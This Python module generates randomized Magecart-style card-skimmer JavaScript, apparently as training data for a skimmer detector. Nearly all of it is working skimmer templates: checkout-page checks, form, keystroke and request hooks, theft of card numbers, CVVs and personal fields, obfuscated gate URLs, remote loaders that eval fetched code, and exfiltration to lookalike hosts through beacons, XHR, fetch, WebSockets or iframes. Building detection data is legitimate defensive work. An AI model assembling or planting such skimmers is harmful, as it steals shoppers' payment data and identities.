"""Generated payment-card skimmers (magecart) as JavaScript text, for training only.

Each skimmer is assembled from independent choices, so the model sees the behaviour
(page check, hook, field collection, encoding, storage, exfiltration) in many
combinations and spellings rather than one kit's text: wrapping style, naming style,
trigger, the fields read and how, encoding, and the channel to the collection server.
Nothing here is executed; the text is only parsed by the feature extractor.
"""

# ruff: noqa: E501  (JavaScript templates are kept one statement per line)

from __future__ import annotations

import base64
import random
import string

CHECKOUT_WORDS = [
    "checkout",
    "onepage",
    "onestepcheckout",
    "firecheckout",
    "onestep",
    "payment",
    "billing",
    "order",
    "cart",
    "pay",
    "secure",
    "simplecheckout",
    "amcheckout",
    "opc",
]
CARD_FIELDS = [
    "cc_number",
    "billing[cc_number]",
    "payment[cc_number]",
    "cardNumber",
    "card-number",
    "card_number",
    "ccnum",
    "cc-number",
    "creditCardNumber",
    "authorizenet_cc_number",
    "braintree_cc_number",
    "stripe_cc_number",
    "cc_cid",
    "payment[cc_cid]",
    "cvv",
    "cvc",
    "cvv2",
    "securityCode",
    "card-cvc",
    "cc_exp_month",
    "cc_exp_year",
    "payment[cc_exp_month]",
    "payment[cc_exp_year]",
    "expiry",
    "exp_date",
    "cc-exp",
    "expirationDate",
    "cardholder",
    "cc_owner",
    "nameoncard",
    "card_holder_name",
]
PERSON_FIELDS = [
    "firstname",
    "lastname",
    "billing[firstname]",
    "billing[lastname]",
    "email",
    "telephone",
    "phone",
    "street",
    "billing[street][]",
    "city",
    "postcode",
    "zip",
    "region",
    "country_id",
    "address",
]
GATE_HOSTS = [
    "analytics-cdn.{tld}",
    "jquery-min.{tld}",
    "cdn-{word}.{tld}",
    "{word}-stats.{tld}",
    "{word}{digits}.{tld}",
    "google-{word}.{tld}",
    "magento-{word}.{tld}",
    "{word}-api.{tld}",
    "secure-{word}.{tld}",
    "{word}.{word2}.{tld}",
    "static-{word}.{tld}",
    "{word}cdn.{tld}",
]
GATE_PATHS = [
    "/gate.php",
    "/collect",
    "/api/v1/track",
    "/js/jquery.min.js",
    "/favicon.ico",
    "/img/pixel.gif",
    "/analytics",
    "/cdn/lib.js",
    "/log",
    "/g.php",
    "/validate",
    "/fonts/{word}.woff",
    "/",
    "/{word}.php",
    "/static/{word}",
]
TLDS = [
    "com",
    "net",
    "org",
    "top",
    "pw",
    "cc",
    "su",
    "ru",
    "info",
    "biz",
    "xyz",
    "link",
    "site",
    "online",
    "cf",
    "ga",
    "tk",
    "club",
    "store",
    "in",
    "io",
    "me",
    "co",
    "ws",
]
WORDS = [
    "stat",
    "metric",
    "pixel",
    "track",
    "jscdn",
    "cloud",
    "fast",
    "static",
    "secure",
    "ssl",
    "trust",
    "verify",
    "shop",
    "store",
    "pay",
    "cart",
    "img",
    "fonts",
    "media",
    "assets",
    "content",
    "data",
    "sync",
    "api",
    "web",
    "host",
    "line",
    "check",
    "guard",
    "prime",
]


def _ident(rng: random.Random, style: str, meaning: str) -> str:
    if style == "descriptive":
        return meaning
    if style == "short":
        return rng.choice(string.ascii_lowercase) + rng.choice(["", "", "1", "2", "_", "x"])
    if style == "hex":
        return "_0x" + "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice([4, 6])))
    # random uppercase/digit kit names (ATMZOW-like), starting with a letter
    first = rng.choice(string.ascii_uppercase)
    return first + "".join(rng.choice(string.ascii_uppercase + string.digits) for _ in range(5))


def gate_url(rng: random.Random, scheme: bool = True) -> str:
    host = rng.choice(GATE_HOSTS).format(
        tld=rng.choice(TLDS),
        word=rng.choice(WORDS),
        word2=rng.choice(WORDS),
        digits=rng.randint(1, 999),
    )
    path = rng.choice(GATE_PATHS).format(word=rng.choice(WORDS))
    prefix = rng.choice(["https://", "https://", "//", "http://"]) if scheme else ""
    return prefix + host + path


def _q(rng: random.Random, s: str) -> str:
    s = s.replace("\\", "\\\\")
    if rng.random() < 0.6:
        return '"' + s.replace('"', '\\"') + '"'
    return "'" + s.replace("'", "\\'") + "'"


class _Names:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.style = rng.choice(["descriptive", "descriptive", "short", "hex", "kit"])
        self.used: dict[str, str] = {}

    def __call__(self, meaning: str) -> str:
        if meaning not in self.used:
            while True:
                name = _ident(self.rng, self.style, meaning)
                if name not in self.used.values() and name not in ("do", "if", "in"):
                    break
                if self.style == "descriptive":
                    meaning = meaning + "_"
            self.used[meaning] = name
        return self.used[meaning]


def _page_check(rng: random.Random, body: str) -> str:
    words = rng.sample(CHECKOUT_WORDS, rng.randint(1, 5))
    pattern = "|".join(words)
    loc = rng.choice(
        [
            "window.location",
            "location.href",
            "document.location.href",
            "window.location.pathname",
            "document.URL",
            "location.pathname",
        ]
    )
    style = rng.randint(0, 3)
    if style == 0:
        cond = f"new RegExp({_q(rng, pattern)}).test({loc})"
    elif style == 1:
        cond = f"/{pattern}/i.test({loc})"
    elif style == 2:
        cond = " || ".join(f"{loc}.indexOf({_q(rng, w)}) != -1" for w in words[:3])
        cond = f"({cond})"
    else:
        cond = f"{loc}.toString().match(/{pattern}/gi)"
    return f"if ({cond}) {{\n{body}\n}}"


def _collect(rng: random.Random, n: _Names) -> tuple[str, str]:
    """Code that fills a variable with field data; returns (code, variable)."""
    data = n("data")
    style = rng.randint(0, 6)
    if style == 0:
        inputs = n("inputs")
        i = n("i")
        sel = _q(
            rng,
            rng.choice(
                [
                    "input, select, textarea",
                    "input, select",
                    "form input",
                    "input[type=text], input[type=tel], select",
                    "input, select, textarea, checkbox",
                ]
            ),
        )
        key = rng.choice(["name", "id"])
        return (
            f"var {data} = '';\nvar {inputs} = document.querySelectorAll({sel});\n"
            f"for (var {i} = 0; {i} < {inputs}.length; {i}++) {{\n"
            f"  if ({inputs}[{i}].value.length > 0) {{\n"
            f"    {data} += {inputs}[{i}].{key} + '=' + {inputs}[{i}].value + '&';\n  }}\n}}",
            data,
        )
    if style == 1:
        fields = rng.sample(CARD_FIELDS, rng.randint(2, 6)) + rng.sample(
            PERSON_FIELDS, rng.randint(0, 4)
        )
        lines = []
        for f in fields:
            how = rng.randint(0, 3)
            if how == 0:
                get = f"document.getElementById({_q(rng, f)})"
            elif how == 1:
                get = f"document.querySelector({_q(rng, '[name=' + chr(34) + f + chr(34) + ']')})"
            elif how == 2:
                get = f"document.getElementsByName({_q(rng, f)})[0]"
            else:
                get = f"document.forms[0].elements[{_q(rng, f)}]"
            lines.append(f"  {_q(rng, f)}: ({get} || {{}}).value")
        return f"var {data} = {{\n" + ",\n".join(lines) + "\n};", data
    if style == 2:
        form = rng.choice(
            [
                "form",
                "#co-payment-form",
                "#checkout",
                "form[action*=checkout]",
                "#payment_form",
                "form#onestepcheckout-form",
            ]
        )
        method = rng.choice(["serialize()", "serializeArray()"])
        jq = rng.choice(["jQuery", "$"])
        call = f"{jq}({_q(rng, form)}).{method}"
        if method == "serializeArray()":
            call = f"JSON.stringify({call})"
        return f"var {data} = {call};", data
    if style == 3:
        form = n("form")
        return (
            f"var {form} = document.querySelector({_q(rng, 'form')}) || document.forms[0];\n"
            f"var {data} = {{}};\n"
            f"new FormData({form}).forEach(function (v, k) {{ {data}[k] = v; }});",
            data,
        )
    if style == 4:
        el = n("el")
        jq = rng.choice(["jQuery", "$"])
        return (
            f"var {data} = '';\n"
            f"{jq}({_q(rng, 'input, select')}).each(function (idx, {el}) {{\n"
            f"  if ({jq}({el}).val() != '') {{ {data} += ({jq}({el}).attr('name') || {jq}({el}).attr('id')) + "
            f"'->' + {jq}({el}).val() + '|'; }}\n}});",
            data,
        )
    if style == 5:
        fields = rng.sample(CARD_FIELDS, rng.randint(3, 7))
        arr = n("fields")
        k = n("k")
        return (
            f"var {arr} = [{', '.join(_q(rng, f) for f in fields)}];\nvar {data} = {{}};\n"
            f"{arr}.forEach(function ({k}) {{\n"
            f"  var e = document.getElementById({k}) || document.getElementsByName({k})[0];\n"
            f"  if (e && e.value) {{ {data}[{k}] = e.value; }}\n}});",
            data,
        )
    inputs = n("inputs")
    return (
        f"var {data} = [];\nvar {inputs} = document.getElementsByTagName('input');\n"
        f"for (var j = 0; j < {inputs}.length; j++) {{ {data}.push({inputs}[j].name + ':' + "
        f"{inputs}[j].value); }}\n{data} = {data}.join(';');",
        data,
    )


def _encode(rng: random.Random, n: _Names, data: str) -> tuple[str, str]:
    enc = n("payload")
    style = rng.randint(0, 6)
    if style == 0:
        return f"var {enc} = btoa(JSON.stringify({data}));", enc
    if style == 1:
        return (
            f"var {enc} = encodeURIComponent(typeof {data} === 'string' ? {data} : JSON.stringify({data}));",
            enc,
        )
    if style == 2:
        key = rng.randint(3, 120)
        s = n("s")
        return (
            f"var {s} = JSON.stringify({data}), {enc} = '';\n"
            f"for (var q = 0; q < {s}.length; q++) {{ {enc} += String.fromCharCode({s}.charCodeAt(q) ^ {key}); }}\n"
            f"{enc} = btoa({enc});",
            enc,
        )
    if style == 3:
        return (
            f"var {enc} = escape(btoa(unescape(encodeURIComponent(JSON.stringify({data})))));",
            enc,
        )
    if style == 4:
        return f"var {enc} = btoa(btoa({data}));", enc
    if style == 5:
        return f"var {enc} = {data}.split('').reverse().join('');", enc
    return f"var {enc} = {data};", enc


def _exfil(rng: random.Random, n: _Names, payload: str) -> str:
    url = url_expr(rng, gate_url(rng)) if rng.random() < 0.4 else _q(rng, gate_url(rng))
    style = rng.randint(0, 8)
    param = rng.choice(["data", "d", "info", "q", "hash", "img", "token", "v", "s"])
    if style == 0:
        return f"new Image().src = {url} + '?{param}=' + {payload};"
    if style == 1:
        x = n("xhr")
        return (
            f"var {x} = new XMLHttpRequest();\n{x}.open('POST', {url}, true);\n"
            f"{x}.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');\n"
            f"{x}.send('{param}=' + {payload});"
        )
    if style == 2:
        return (
            f"fetch({url}, {{ method: 'POST', mode: 'no-cors', "
            f"body: JSON.stringify({{ {param}: {payload} }}) }});"
        )
    if style == 3:
        return f"navigator.sendBeacon({url}, {payload});"
    if style == 4:
        jq = rng.choice(["jQuery", "$"])
        return (
            f"{jq}.ajax({{ url: {url}, type: 'POST', async: true, "
            f"data: {{ {param}: {payload} }}, dataType: 'json' }});"
        )
    if style == 5:
        s = n("tag")
        return (
            f"var {s} = document.createElement('script');\n{s}.src = {url} + '?{param}=' + {payload};\n"
            f"document.body.appendChild({s});"
        )
    if style == 6:
        ws = n("sock")
        host = gate_url(rng, scheme=False).split("/")[0]
        return (
            f"var {ws} = new WebSocket('wss://{host}/ws');\n"
            f"{ws}.onopen = function () {{ {ws}.send({payload}); }};"
        )
    if style == 7:
        f = n("frame")
        return (
            f"var {f} = document.createElement('iframe');\n{f}.style.display = 'none';\n"
            f"{f}.src = {url} + '#' + {payload};\ndocument.body.appendChild({f});"
        )
    jq = rng.choice(["jQuery", "$"])
    return f"{jq}.post({url}, {{ {param}: {payload} }});"


def _hook(rng: random.Random, n: _Names, fn: str) -> str:
    style = rng.randint(0, 7)
    if style == 0:
        return f"document.addEventListener('submit', {fn}, true);"
    if style == 1:
        sel = _q(
            rng,
            rng.choice(
                [
                    "button",
                    "#payment-button",
                    ".btn-checkout",
                    "button[type=submit]",
                    "a[href*='javascript:void(0)'], button, input[type=submit], .btn, .button",
                    "#onestepcheckout-place-order",
                    ".action.primary.checkout",
                ]
            ),
        )
        b = n("btns")
        return (
            f"var {b} = document.querySelectorAll({sel});\n"
            f"for (var z = 0; z < {b}.length; z++) {{ {b}[z].addEventListener("
            f"{_q(rng, rng.choice(['click', 'mousedown', 'mouseup', 'touchend']))}, {fn}, false); }}"
        )
    if style == 2:
        jq = rng.choice(["jQuery", "$"])
        ev = rng.choice(["click", "change", "blur", "submit", "mousedown"])
        sel = rng.choice(
            ["button", "form", "input", "#checkout-payment-method-load button", "body"]
        )
        return f"{jq}(document).on({_q(rng, ev)}, {_q(rng, sel)}, {fn});"
    if style == 3:
        return f"setInterval({fn}, {rng.choice([500, 1000, 2000, 3000, 5000])});"
    if style == 4:
        fr = n("frm")
        return (
            f"var {fr} = document.forms;\nfor (var y = 0; y < {fr}.length; y++) {{ "
            f"{fr}[y].addEventListener('submit', {fn}); }}"
        )
    if style == 5:
        return f"window.addEventListener('beforeunload', {fn});"
    if style == 6:
        return (
            f"document.addEventListener('change', function (e) {{ if (e.target && e.target.name) "
            f"{{ {fn}(); }} }});"
        )
    return (
        f"new MutationObserver(function () {{ var p = document.querySelector('[name*=cc_number]'); "
        f"if (p && !p.dataset.h) {{ p.dataset.h = 1; p.addEventListener('blur', {fn}); }} }})"
        f".observe(document.body, {{ childList: true, subtree: true }});"
    )


def _luhn(n: _Names) -> str:
    f = n("luhn")
    return (
        f"function {f}(num) {{\n  var s = 0, alt = false;\n  num = num.replace(/\\D/g, '');\n"
        f"  for (var i = num.length - 1; i >= 0; i--) {{\n    var d = parseInt(num.charAt(i), 10);\n"
        f"    if (alt) {{ d *= 2; if (d > 9) d -= 9; }}\n    s += d; alt = !alt;\n  }}\n"
        f"  return s % 10 == 0;\n}}"
    )


def _store(rng: random.Random, payload: str) -> str:
    style = rng.randint(0, 3)
    if style == 0:
        return f"localStorage.setItem({_q(rng, rng.choice(['_ga_cache', 'sess', 'ci', 'payment_ref']))}, {payload});"
    if style == 1:
        return f"document.cookie = '{rng.choice(['userpayid', '_fbq', 'validationcookie', 'cc'])}=' + {payload} + '; path=/';"
    if style == 2:
        return f"sessionStorage.setItem('c', {payload});"
    return ""


def _fake_form(rng: random.Random, n: _Names) -> str:
    div = n("overlay")
    fields = "".join(
        f'<input type="text" name="{f}" placeholder="{f}">'
        for f in rng.sample(["cc_number", "cc_exp", "cvv", "cardholder", "card_number", "cvc"], 3)
    )
    return (
        f"var {div} = document.createElement('div');\n"
        f"{div}.innerHTML = '<form id=\"pay-secure\">{fields}<button>Place order</button></form>';\n"
        f"var anchor = document.querySelector('#payment, .payment-methods, #checkout-step-payment');\n"
        f"if (anchor) anchor.appendChild({div});"
    )


def skimmer(rng: random.Random) -> str:
    """One generated skimmer."""
    n = _Names(rng)
    send = n("send")
    parts: list[str] = []
    collect, data = _collect(rng, n)
    body = [collect]
    if rng.random() < 0.25:
        parts.append(_luhn(n))
        body.append(f"if (typeof {data} === 'string' && {data}.length < 10) return;")
    code, payload = _encode(rng, n, data)
    body.append(code)
    if rng.random() < 0.35:
        body.append(_store(rng, payload))
    body.append(_exfil(rng, n, payload))
    if rng.random() < 0.4:
        inner = "\n".join(body)
        body = [f"try {{\n{inner}\n}} catch (e) {{}}"]
    parts.append(f"function {send}() {{\n" + "\n".join(body) + "\n}")
    hook = _hook(rng, n, send)
    if rng.random() < 0.2:
        hook = _fake_form(rng, n) + "\n" + hook
    if rng.random() < 0.7:
        hook = _page_check(rng, hook)
    start = rng.randint(0, 4)
    if start == 0:
        hook = f"window.onload = function () {{\n{hook}\n}};"
    elif start == 1:
        hook = f"document.addEventListener('DOMContentLoaded', function () {{\n{hook}\n}});"
    elif start == 2:
        jq = rng.choice(["jQuery", "$"])
        hook = f"{jq}(document).ready(function () {{\n{hook}\n}});"
    elif start == 3:
        hook = f"setTimeout(function () {{\n{hook}\n}}, {rng.choice([1000, 3000, 10000])});"
    parts.append(hook)
    code = "\n".join(parts)
    wrap = rng.randint(0, 3)
    if wrap == 0:
        code = f"(function () {{\n{code}\n}})();"
    elif wrap == 1:
        code = f"!function () {{\n{code}\n}}();"
    return code


def skimmer_object_style(rng: random.Random) -> str:
    """A skimmer written as an object literal with methods (a common kit layout)."""
    n = _Names(rng)
    obj = rng.choice(["Gate", "Analytics", "Validator", "Cdn", "Stats", "Helper", n("kit")])
    collect, data = _collect(rng, n)
    code, payload = _encode(rng, n, data)
    exfil = _exfil(rng, n, payload)
    url = gate_url(rng)
    return (
        f"var {obj} = {{\n  Data: null,\n  Gate: {_q(rng, url)},\n"
        f"  Grab: function () {{\n{collect}\n    this.Data = {data};\n  }},\n"
        f"  Send: function () {{\n    var {data} = this.Data;\n{code}\n{exfil}\n  }},\n"
        f"  Run: function () {{\n    var self = this;\n"
        f"    document.addEventListener('click', function () {{ self.Grab(); self.Send(); }});\n  }}\n}};\n"
        f"{_page_check(rng, obj + '.Run();')}"
    )


def url_expr(rng: random.Random, url: str) -> str:
    """A JavaScript expression that yields ``url``: a literal, or built at run time."""
    style = rng.randint(0, 6)
    if style <= 1:
        return _q(rng, url)
    if style == 2:
        return f"atob({_q(rng, base64.b64encode(url.encode()).decode())})"
    if style == 3:
        return "String.fromCharCode(" + ",".join(str(ord(c)) for c in url) + ")"
    if style == 4:
        return f"{_q(rng, url[::-1])}.split('').reverse().join('')"
    if style == 5:
        cuts = sorted(rng.sample(range(1, len(url)), min(3, len(url) - 1)))
        pieces = [url[a:b] for a, b in zip([0, *cuts], [*cuts, len(url)], strict=True)]
        return "[" + ", ".join(_q(rng, x) for x in pieces) + "].join('')"
    cut = rng.randint(1, len(url) - 1)
    return f"{_q(rng, url[:cut])} + {_q(rng, url[cut:])}"


def keylogger_skimmer(rng: random.Random) -> str:
    """Records what is typed into form fields and sends the buffer in batches."""
    n = _Names(rng)
    buf, ev, flush = n("buffer"), n("ev"), n("flush")
    event = rng.choice(["keyup", "keydown", "input", "change", "blur", "keypress"])
    what = rng.choice(
        [
            f"{ev}.target.name + '=' + {ev}.target.value",
            f"({ev}.target.id || {ev}.target.name) + ':' + {ev}.target.value",
            f"{ev}.key",
            f"String.fromCharCode({ev}.which || {ev}.keyCode)",
        ]
    )
    keyed = rng.random() < 0.5
    store = (
        f"{buf}[{ev}.target.name || {ev}.target.id] = {ev}.target.value;"
        if keyed
        else f"{buf}.push({what});"
    )
    init = "{}" if keyed else "[]"
    target = rng.choice(
        [
            "document",
            "document.querySelector('form')",
            "document.getElementById('checkout')",
            "window",
        ]
    )
    code, payload = _encode(rng, n, f"JSON.stringify({buf})")
    url = url_expr(rng, gate_url(rng))
    sender = rng.choice(
        [
            f"new Image().src = {url} + '?k=' + {payload};",
            f"navigator.sendBeacon({url}, {payload});",
            f"var r = new XMLHttpRequest(); r.open('POST', {url}); r.send({payload});",
            f"fetch({url}, {{ method: 'POST', body: {payload}, mode: 'no-cors' }});",
        ]
    )
    trigger = rng.choice(
        [
            f"setInterval({flush}, {rng.choice([2000, 4000, 8000])});",
            f"window.addEventListener('beforeunload', {flush});",
            f"document.addEventListener('submit', {flush}, true);",
        ]
    )
    body = (
        f"var {buf} = {init};\n"
        f"{target}.addEventListener({_q(rng, event)}, function ({ev}) {{\n"
        f"  if (!{ev}.target || !{ev}.target.tagName) return;\n  {store}\n}}, true);\n"
        f"function {flush}() {{\n  if (!Object.keys({buf}).length) return;\n{code}\n"
        f"  {sender}\n  {buf} = {init};\n}}\n{trigger}"
    )
    if rng.random() < 0.6:
        body = _page_check(rng, body)
    return f"(function () {{\n{body}\n}})();" if rng.random() < 0.6 else body


def loader(rng: random.Random) -> str:
    """Loads the skimmer proper from a remote host, usually only on checkout pages."""
    n = _Names(rng)
    el = n("s")
    src = url_expr(rng, gate_url(rng))
    how = rng.randint(0, 3)
    if how == 0:
        code = (
            f"var {el} = document.createElement('script');\n{el}.type = 'text/javascript';\n"
            f"{el}.async = true;\n{el}.src = {src};\n"
            f"(document.head || document.getElementsByTagName('head')[0]).appendChild({el});"
        )
    elif how == 1:
        code = f"document.write('<scr' + 'ipt src=\"' + {src} + '\"></scr' + 'ipt>');"
    elif how == 2:
        x = n("x")
        run = rng.choice(["eval", "window.eval", "new Function"])
        call = "()" if run == "new Function" else ""
        code = (
            f"var {x} = new XMLHttpRequest();\n{x}.open('GET', {src}, true);\n"
            f"{x}.onload = function () {{ {run}({x}.responseText){call}; }};\n{x}.send();"
        )
    else:
        code = (
            f"fetch({src}).then(function (r) {{ return r.text(); }}).then(function (t) {{ "
            f"var {el} = document.createElement('script'); {el}.text = t; "
            f"document.body.appendChild({el}); }});"
        )
    if rng.random() < 0.8:
        code = _page_check(rng, code)
    return code


def api_hook_skimmer(rng: random.Random) -> str:
    """Wraps XMLHttpRequest.send, fetch or form submission to copy checkout requests."""
    n = _Names(rng)
    orig, body = n("orig"), n("body")
    url = url_expr(rng, gate_url(rng))
    leak = rng.choice(
        [
            f"new Image().src = {url} + '?d=' + btoa(unescape(encodeURIComponent({body})));",
            f"navigator.sendBeacon({url}, {body});",
            f"var q = new XMLHttpRequest(); q.open('POST', {url}); q.send({body});",
        ]
    )
    cond = rng.choice(
        [
            f"/card|cc_|cvv|cvc|payment|billing/i.test({body})",
            f"{body}.indexOf('payment') > -1",
            f"{body}.length > 20",
        ]
    )
    style = rng.randint(0, 2)
    if style == 0:
        return (
            f"var {orig} = XMLHttpRequest.prototype.send;\n"
            f"XMLHttpRequest.prototype.send = function ({body}) {{\n"
            f"  try {{ if ({body} && {cond}) {{ {leak} }} }} catch (e) {{}}\n"
            f"  return {orig}.apply(this, arguments);\n}};"
        )
    if style == 1:
        return (
            f"var {orig} = window.fetch;\nwindow.fetch = function (u, o) {{\n"
            f"  var {body} = o && typeof o.body === 'string' ? o.body : '';\n"
            f"  try {{ if ({cond}) {{ {leak} }} }} catch (e) {{}}\n"
            f"  return {orig}.apply(this, arguments);\n}};"
        )
    return (
        f"var {orig} = HTMLFormElement.prototype.submit;\n"
        f"HTMLFormElement.prototype.submit = function () {{\n"
        f"  var {body} = [].map.call(this.elements, function (e) {{ return e.name + '=' + e.value; }}).join('&');\n"
        f"  try {{ if ({cond}) {{ {leak} }} }} catch (e) {{}}\n"
        f"  return {orig}.call(this);\n}};"
    )


def deferred_skimmer(rng: random.Random) -> str:
    """Saves field values on change into storage, sends them later from another page."""
    n = _Names(rng)
    key = _q(rng, rng.choice(["_gat_cache", "__sess", "checkout_state", "pp_ref", "ux"]))
    store = rng.choice(["localStorage", "sessionStorage"])
    fields = rng.sample(CARD_FIELDS, rng.randint(2, 5))
    sel = _q(rng, ", ".join(f"[name='{f}']" for f in fields))
    send = n("send")
    url = url_expr(rng, gate_url(rng))
    trigger = rng.choice(
        [f"setTimeout({send}, 5000);", f"window.addEventListener('load', {send});"]
    )
    return (
        f"document.addEventListener('change', function (e) {{\n"
        f"  var t = e.target;\n  if (!t.matches || !t.matches({sel})) return;\n"
        f"  var d = JSON.parse({store}.getItem({key}) || '{{}}');\n"
        f"  d[t.name] = t.value;\n  {store}.setItem({key}, JSON.stringify(d));\n}});\n"
        f"function {send}() {{\n  var v = {store}.getItem({key});\n  if (!v) return;\n"
        f"  var i = new Image();\n  i.src = {url} + '?' + encodeURIComponent(btoa(v));\n"
        f"  {store}.removeItem({key});\n}}\n{trigger}"
    )


def generate(rng: random.Random) -> str:
    """A skimmer in one of the generator's layouts."""
    r = rng.random()
    if r < 0.2:
        return skimmer_object_style(rng)
    if r < 0.32:
        return keylogger_skimmer(rng)
    if r < 0.42:
        return loader(rng)
    if r < 0.52:
        return api_hook_skimmer(rng)
    if r < 0.6:
        return deferred_skimmer(rng)
    return skimmer(rng)
